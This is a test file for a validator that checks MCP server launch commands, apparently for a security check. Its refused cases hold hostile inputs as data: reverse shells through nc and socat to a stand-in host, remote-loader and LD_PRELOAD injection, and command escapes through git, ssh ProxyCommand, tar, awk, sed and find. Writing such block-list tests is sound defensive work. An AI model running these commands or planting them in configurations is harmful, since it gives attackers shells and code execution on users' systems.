import { describe, expect, test } from "vitest";
import { checkCommand } from "./commands.js";

const paths = (command: string, ...args: string[]): string[] => checkCommand({ command, args }).map(({ path }) => path);

describe("is allowed", () => {
  test.each([
    ["npx", "-y", "@scope/server@1.0.0", "-c", "config.json"],
    ["uvx", "server", "--key", "${API_KEY}"],
    ["docker", "run", "-i", "--rm", "-e", "KEY=$VALUE", "image"],
    ["python", "-m", "server", "-c", "config.toml"],
    ["python3", "-u", "server.py", "-c", "config.toml"],
    ["python3.12", "-W", "ignore", "server.py"],
    ["node", "./dist/index.js", "-e", "production"],
    ["node", "--require", "./setup.js", "server.js"],
    ["deno", "run", "--allow-net", "jsr:@x/server@1"],
    ["/opt/My Tools/server", "--port", "1"],
    ["C:\\Tools\\server.exe"],
    ["uv", "run", "server"],
    ["uv", "run", "--directory", "/srv", "server.py", "-c"],
    ["env", "KEY=x", "node", "server.js"],
    ["my-bash-server"],
    ["sudo", "-u", "app", "node", "server.js", "bash"],
    ["ssh", "-i", "key", "host", "mcp-server"],
    ["ssh", "-o", "StrictHostKeyChecking=no", "host", "mcp-server"],
    ["node", "--import", "./register.mjs", "server.js"],
    ["git", "mcp-server"],
    ["shell-mcp"],
  ])("%s %s %s %s %s", (...words) => {
    const [command = "", ...args] = words;
    expect(paths(command, ...args)).toEqual([]);
  });
});

describe("is refused", () => {
  test.each([
    ...Array.from(";|&$`<>(){}*?!~'\"\n", (it) => [`a${it}b`, "command"]),
    [" npx", "command"],
    ["npx ", "command"],
    ["", "command"],
    ["npx -y server", "command"],
    ["/usr/bin/npx -y server", "command"],
    ["bash", "command"],
    ["/bin/sh", "command"],
    ["C:\\Windows\\System32\\CMD.EXE", "command"],
    ["pwsh", "command"],
    ["powershell.exe", "command"],
    ["fish", "command"],
    ["busybox", "command"],
    ["script", "command"],
    ["watch", "command"],
    ["aria2c", "command"],
    ["curl", "command"],
    ["/usr/bin/wget", "command"],
  ])("the command %j", (command, path) => {
    expect(paths(command)).toEqual([path]);
  });

  test.each([
    ["args[0]", "env", "-S", "sh -c x"],
    ["args[0]", "env", "-iS", "sh -c x"],
    ["args[0]", "env", "--split-string=bash -c x"],
    ["args[0]", "env", "LD_PRELOAD=./x.so", "node", "server.js"],
    ["args[0]", "env", "NODE_OPTIONS=--import=data:text/javascript,x", "node", "server.js"],
    ["args[2]", "env", "-u", "HOME", "bash"],
    ["args[2]", "sudo", "-u", "root", "bash", "-c", "x"],
    ["args[3]", "timeout", "-s", "KILL", "5", "sh"],
    ["args[2]", "xargs", "-I", "{}", "sh"],
    ["args[1]", "chroot", "/", "/bin/sh"],
    ["args[0]", "/lib64/ld-linux-x86-64.so.2", "/bin/sh"],
    ["args[3]", "uv", "run", "--with", "x", "python", "-c", "x"],
    ["args[0]", "awk", 'BEGIN{system("id")}'],
    ["args[1]", "gawk", "-v", "a=b", 'BEGIN{system("id")}'],
    ["args[0]", "sed", "1e id"],
    ["args[1]", "find", "/", "-exec", "id", ";"],
    ["args[1]", "find", "/", "-execdir", "id", "+"],
    ["args[1]", "node", "--import", "data:text/javascript,x", "server.js"],
    ["args[0]", "node", "--import=data:text/javascript,x"],
    ["args[1]", "node", "--loader", "https://x.test/l.mjs", "server.js"],
    ["args[0]", "git", "-c", "core.sshCommand=id", "fetch"],
    ["args[0]", "git", "-c", "alias.x=!id", "x"],
    ["args[1]", "git", "clone", "ext::sh -c id"],
    ["args[0]", "ssh", "-oProxyCommand=id", "host"],
    ["args[1]", "ssh", "-o", "ProxyCommand=id", "host"],
    ["args[1]", "ssh", "-o", "PermitLocalCommand=yes", "host"],
    ["args[1]", "tar", "xf", "--checkpoint-action=exec=id"],
    ["args[0]", "rsync", "-e", "sh -c id", "a", "b"],
    ["args[0]", "nc", "-e", "/bin/sh", "x.test", "1"],
    ["args[1]", "socat", "TCP:x.test:1", "EXEC:/bin/sh"],
    ["args[0]", "vim", "-c", ":!id"],
    ["args[0]", "perl", "-Mx;system('id')"],
    ["args[0]", "make", "--eval=x:;id"],
    ["args[0]", "php", "-r", "x"],
    ["args[0]", "lua", "-e", "x"],
    ["args[0]", "osascript", "-e", "x"],
    ["args[0]", "python", "-c", "import os"],
    ["args[0]", "python3", "-cimport os"],
    ["args[0]", "python3.11", "-Ic", "x"],
    ["args[2]", "python", "-W", "ignore", "-c", "x"],
    ["args[0]", "node", "-e", "x"],
    ["args[0]", "node", "--eval=x"],
    ["args[0]", "node", "-p", "x"],
    ["args[2]", "node", "--require", "./a.js", "-e", "x"],
    ["args[0]", "deno", "eval", "x"],
    ["args[0]", "bun", "-e", "x"],
    ["args[0]", "perl", "-ne", "x"],
    ["args[0]", "ruby", "-e", "x"],
    ["args[0]", "php", "-r", "x"],
    ["args[0]", "npx", "-c", "x"],
    ["args[0]", "env", "bash", "-c", "x"],
    ["args[2]", "env", "-i", "A=1", "python", "-c", "x"],
    ["args[1]", "timeout", "5s", "curl", "x"],
    ["args[0]", "sudo", "sh"],
    ["args[1]", "uv", "run", "python", "-c", "x"],
    ["args[2]", "uv", "run", "--offline", "bash"],
    ["args[0]", "env", "uv", "run", "sh"],
  ])("at %s: %s %s %s", (path, command, ...args) => {
    expect(paths(command, ...args)).toEqual([path]);
  });
});

test("the place is named as the caller calls it", () => {
  expect(checkCommand({ command: "sh" }, "external_mcps[2]")).toEqual([
    { path: "external_mcps[2].command", message: "sh is a shell. Specify the program to run instead." },
  ]);
});
